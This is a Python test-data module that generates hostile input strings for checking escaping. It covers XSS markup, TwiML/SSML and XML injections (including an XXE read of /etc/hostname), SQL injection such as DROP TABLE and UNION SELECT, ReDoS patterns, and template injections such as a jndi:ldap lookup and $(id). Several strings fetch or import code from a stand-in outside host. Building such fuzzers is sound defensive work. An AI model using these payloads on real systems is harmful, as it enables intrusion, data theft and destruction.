"""Values that would break out of the text they stand in, if anybody built pages, documents, queries or templates from
text: markup and scripts, TwiML and SSML, SQL and patterns, templates and formats. `m`, `n` and `h` are filled by
chance."""

from collections.abc import Callable, Iterator

from hostile.invented import BITS, ELSEWHERE, Chance, letters

Values = Iterator[str]

_EVENTS = (
    "onerror", "onload", "onfocus autofocus", "onmouseover", "ontoggle open", "onanimationstart", "onpointerenter",
    "onbegin",
)  # fmt: skip
_TAGS = (
    "img src=x", "svg", "body", "details", "video src=x", "input", "math", "iframe", "marquee", "style",
    "object data=x",
)  # fmt: skip
_RUNS = (
    "document.title='{m}'", "fetch('//{h}/{m}')", "alert({n})", "location='//{h}'", "import('//{h}/{m}.js')",
    "self['al'+'ert']({n})", "eval(atob('{m}'))", "parent.postMessage('{m}','*')",
)  # fmt: skip
MARKUP = (
    "<script>{r}</script>", "<{t} {e}={r}>", "<{t} {e}=\"{r}\">", "'\"><{t} {e}={r}>", "</textarea><{t} {e}={r}>",
    "<scr<script>ipt>{r}", "<a href=\"javascript:{r}\">x</a>", "<a href=' &#1;java&#x0a;script:{r}'>x</a>",
    "\"}};{r};//", "</script><script>{r}</script>", "<noscript><p title=\"</noscript><{t} {e}={r}>\">",
    "<svg><style><img title='</style><{t} {e}={r}>'>", "<math><mi//xlink:href='data:x,{r}'>",
    "&lt;script&gt;{r}&lt;/script&gt;", "<!--><{t} {e}={r}>-->", "<base href=//{h}/>",
    "<meta http-equiv=refresh content='0;//{h}/{m}'>", "<link rel=stylesheet href=//{h}/{m}>",
    "<style>@import '//{h}/{m}';</style>", "<form action=//{h}/{m}><button>x", "<iframe srcdoc='<{t} {e}={r}>'>",
    "＜script＞{r}＜/script＞", "<\0script>{r}</script>", "<{t}/{e}={r}//", "http://{h}/{m}\" {e}=\"{r}",
    "https://{h}/'><{t} {e}={r}>", "data:text/html,<script>{r}</script>", "{{{{constructor.constructor('{r}')()}}}}",
    "<embed src=//{h}/{m}>", "[x](javascript:{r})",
)  # fmt: skip
DOCUMENTS = (
    "</Say><Hangup/><Say>{m}", "</Say></Gather><Dial><Number>+1900{n}</Number></Dial>",
    "</Response><Response><Play>http://{h}/{m}</Play></Response>", "]]><Redirect>http://{h}/{m}</Redirect><![CDATA[",
    "<![CDATA[{m}]]>", "<!DOCTYPE x [<!ENTITY {m} SYSTEM 'file:///etc/hostname'>]>&{m};",
    "<!ENTITY % {m} SYSTEM 'http://{h}/'>%{m};", "&#60;Hangup/&#62;{m}", "&amp;lt;Hangup/&amp;gt;{m}",
    "<?xml version='1.1' encoding='{m}'?>", "<?xml-stylesheet href='http://{h}/{m}'?>", "<break time='{n}s'/>",
    "<say-as interpret-as='telephone'>{n}</say-as>", "<prosody rate='{n}%'>{m}", "<sub alias='{m}'>0</sub>",
    "<audio src='http://{h}/{m}.wav'/>", "' action='http://{h}/{m}", "\" voice=\"{m}\" x=\"", "<!-- {m} -- > -->",
    "<Sms to='+1900{n}'>{m}</Sms>", "<Record recordingStatusCallback='http://{h}/{m}'/>",
    "<xi:include href='http://{h}/{m}'/>", "&{m};&{m};", "<Pay/>{m}", "<Enqueue>{m}</Enqueue>", "<speak xmlns='{m}'>",
    "\ufffe<{m}/>", "<{m} xmlns:x='http://{h}'/>", "|{m}| |0| 0 |", "0 0 0, 0. {m}",
)  # fmt: skip
QUERIES = (
    "' OR '{m}'='{m}", "'; DROP TABLE tickets; -- {m}", "\\'; SELECT pg_sleep({n}); --",
    "') UNION SELECT phone,{n} FROM contacts --", "{m}%' AND 1=0 --", "%{m}%", "_{m}_", "%%%%{m}", "\\%{m}\\",
    "$${m}$$", "E'\\x{n}'", "'||(SELECT version())||'{m}", "1;ATTACH DATABASE '/tmp/{m}' AS x",
    "{n}' LIMIT {n} OFFSET '", "\"; PRAGMA writable_schema=ON; -- {m}", ":{m}", "%({m})s", "?{m}", "{n}::regclass",
    "CHR(0)||{m}", "'{m}' COLLATE NOCASE", "(a+)+{m}$", "^(([a-z])+.)+{m}", "{m}\u2019 OR 1=1", "ʼ OR 1={n} --",
    "0x{n}", "{n}e308", "-{n}", "NULL", "'\0{m}", "/*{m}*/ OR /**/1=1", "LIKE '{m}!%' ESCAPE '!'", "nextval('{m}')",
)  # fmt: skip
TEMPLATES = (
    "{{{{{n}*{n}}}}}", "{{% import '{m}' %}}", "{{{{config.{m}}}}}", "{{0.__class__.{m}}}",
    "{{number.__class__.__mro__[{n}]}}", "{{{m}}}", "{{}}{m}", "{{{m}!r:>{n}}}", "%s%s%n{m}", "%({m})s", "%{n}$s",
    "${{jndi:ldap://{h}/{m}}}", "${{{m}}}", "#{{{m}}}", "<%= {m} %>", "$(id {m})", "`id {m}`",
    "{{{{''.__class__}}}}{m}", "{{area}}{m}", "{{date!s}}{m}", "{{{n}}}", "{{{m}[{n}]}}", "\\N{{{m}}}", "\\x{n}",
    "\\u00{n}{m}", "{{{{ cycler.__init__.{m} }}}}", "!{m}!{n}", "*{{{m}}}", "@({m})", "~{m}~",
)  # fmt: skip


def filled(forms: tuple[str, ...]) -> Callable[[Chance], Values]:
    """Every form in turn, filled by chance; after one round half of them run on into ordinary words."""

    def one(chance: Chance, form: str) -> str:
        marks = {"m": chance.choice(BITS) + chance.choice(BITS), "n": str(chance.randrange(2, 10**6)), "h": ELSEWHERE}
        tag, event = chance.choice(_TAGS), chance.choice(_EVENTS)
        return form.format(**marks, r=chance.choice(_RUNS).format(**marks), t=tag, e=event)

    def values(chance: Chance) -> Values:
        yield from (one(chance, form) for form in forms)
        while True:
            for form in forms:
                made = one(chance, form)
                around = f"{letters(chance)} {made}", f"{made} {letters(chance)}"
                yield chance.choice((made, made, made.upper(), *around))

    return values
